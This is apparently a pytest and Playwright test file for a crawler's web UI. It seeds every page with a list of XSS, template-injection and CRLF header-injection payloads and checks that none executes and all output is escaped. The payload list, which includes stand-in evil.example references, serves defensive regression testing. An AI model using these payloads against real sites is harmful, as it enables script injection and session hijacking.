"""R-59: hostile strings wherever something crawled or typed is shown; in a real Chromium nothing of them runs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest

from crawlkit.database.base import NodeRow, ProjectRow, Writes
from crawlkit.libs import passwords
from crawlkit.libs.rows import LogLine
from crawlkit.libs.task import Process, Status
from tests.webui.access import ME, accounts_of, add_users, sign_in
from tests.webui.rows import NOW, attempt, failed, put_results, put_tasks, services, task
from tests.webui.servers import Running, in_thread

CALL = "window.__owned=1;alert(1)"
NAUGHTY = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"\"><img src=x onerror='{CALL}'>",
    f"'><svg/onload={CALL}>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<a href=javascript:{CALL}>click</a>",
    f"<object data=javascript:{CALL}></object>",
    "<base href=//evil.example/><script src=x></script>",
    f"<meta http-equiv=refresh content='0;javascript:{CALL}'>",
    "<style>@import'//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    "{% raw %}{{ 7*7 }}",
    f"javascript:{CALL}",
    f"JaVa\tScRiPt:{CALL}",
    f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"\\u003cimg src=x onerror={CALL}\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"＜script＞{CALL}＜/script＞",
    f"<scr\x00ipt>{CALL}</scr\x00ipt>",
    f"<SCRIPT/SRC=data:,{CALL}>",
    f"\u202e<img src=x onerror={CALL}>\u2028\u2029",
    "__proto__",
    "constructor",
    "\r\nSet-Cookie: owned=1\r\n\r\n<script>alert(1)</script>",
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A web UI with stores that are full of it; nothing that these tests do changes them."""
    with pytest.MonkeyPatch.context() as patch, in_thread(tmp_path_factory.mktemp("hostile") / "data") as running:
        patch.setattr(passwords, "COST", (4, 8, 1))
        fill(running)
        yield running


def fill(server: Running) -> None:
    found = services(server)
    now = found.clock.time()
    printable = [text for text in NAUGHTY if text.isprintable()]
    for number, text in enumerate(printable):
        row = ProjectRow(f"p{number}", group=text[:64], comments=text, script=f"# {text}\n'''{text}'''\n")
        found.projectdb.put(row, author=text, message=text)
    found.projectdb.put(ProjectRow("shop", script="\n".join(f"# {text!r}" for text in NAUGHTY)))
    for number, text in enumerate(NAUGHTY):
        row, ended = failed(number, text[:200], url=text)
        row.process, row.save, row.etag = Process(callback=text), json.dumps({text: text}), text
        hostile_track = {
            "error": text,
            "content": text,
            "headers": {text: text},
            "redirect_url": text,
            "error_kind": text,
        }
        ended = attempt(number, ok=False, reason=text[:200], track=hostile_track, node=text,
                        callback={"logs": text, "exception": text, "result": text})  # fmt: skip
        put_tasks(server, row, ended, task(100 + number, status=Status.SUCCESS, url=f"http://x.test/?{quote(text)}"))
    put_results(server, *[{"text": text, text: text, "list": [text, {text: text}]} for text in NAUGHTY])
    found.taskdb.commit(Writes(nodes=[NodeRow(text, text[:60], text, 1, text[:60], now, now)
                                      for text in NAUGHTY]))  # fmt: skip
    found.logdb.append_many([
        LogLine(NOW + number, 40, f"{text}\nFile \"{text}\", line 3", text, text, "shop", "t000", text, text, text)
        for number, text in enumerate(NAUGHTY)
    ])  # fmt: skip
    add_users(server)
    accounts = accounts_of(server)
    for text in NAUGHTY:
        accounts.add_token(ME, "ada", text, "viewer")
        accounts.note(ME, text, text, text, text)


PAGES = (
    "/", "/projects/shop", "/projects/p0", "/debug/shop", "/debug/p1", "/tasks", "/tasks?project=shop&limit=100",
    "/task/shop:t001", "/task/shop:t017", "/task/shop:t025",
    "/failures", "/failures?project=shop", "/results?project=shop",
    "/logs", "/logs?project=shop", "/nodes", "/queues", "/account", "/admin", "/admin/tokens", "/admin/audit",
)  # fmt: skip


LINKS = "all => all.map(one => one.getAttribute('href') ?? one.getAttribute('src'))"
SHOWN = ("/tasks", "/failures", "/results?project=shop", "/logs", "/nodes", "/admin/tokens", "/admin/audit")


def test_r59_nothing_runs_on_any_page(hostile: Running, new_page: Any) -> None:
    """changedetection.io, CVE-2023-24769: an address that was watched ran as script."""
    from playwright.sync_api import expect

    page = new_page(hostile, watch=False)
    trouble: list[str] = []
    page.on("dialog", lambda dialog: (trouble.append(f"dialog on {page.url}"), dialog.dismiss()))
    page.on("pageerror", lambda error: trouble.append(f"exception on {page.url}: {error}"))
    page.on(
        "console", lambda said: "Content Security Policy" in said.text and trouble.append(f"{page.url}: {said.text}")
    )
    page.on(
        "request", lambda sent: not sent.url.startswith((hostile.url, "data:", "blob:")) and trouble.append(sent.url)
    )
    for place in PAGES:
        page.goto(hostile.url + place)
        page.wait_for_load_state("load")
        if place in SHOWN:  # as text it is there
            expect(page.locator("main"), place).to_contain_text("onerror=window", use_inner_text=True)
        page.evaluate("new Promise((resolve) => requestIdleCallback(resolve))")
        assert page.evaluate("window.__owned === undefined && ({}).owned === undefined"), place
        assert page.url.startswith(hostile.url), place
        links = page.eval_on_selector_all("a[href], iframe[src]", LINKS)
        for link in links:
            assert not link.strip().lower().startswith(("javascript:", "data:", "vbscript:", "\x01")), (place, link)
    assert not trouble, trouble


def test_r59_what_is_typed_into_addresses(hostile: Running, new_page: Any) -> None:
    page = new_page(hostile, watch=False)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(page.url), dialog.dismiss()))
    for text in (NAUGHTY[0], NAUGHTY[3], NAUGHTY[4]):
        said = quote(text)
        for place in (f"/tasks?text={said}&project={said}", f"/login?next={said}", f"/{said}", f"/projects/{said}",
                      f"/task/{said}", f"/results?project={said}"):  # fmt: skip
            page.goto(hostile.url + place)
            assert page.evaluate("window.__owned === undefined"), place
    assert not dialogs


def test_r59_nothing_is_markup_in_what_the_server_writes(hostile: Running) -> None:
    """Every answer for people, as text: no string of ours is in it unescaped, and no header is made of one."""
    client = sign_in(hostile, "ada")
    for place in (*PAGES, *(f"/nothing/{quote(text, safe='')}" for text in NAUGHTY)):
        answer = client.get(place, Accept="text/html")
        assert answer.headers["Content-Type"].startswith("text/html"), place
        for text in NAUGHTY:
            assert "<" not in text or text not in answer.text, (place, text)
        assert "owned" not in str(answer.headers.get_all("Set-Cookie")), place
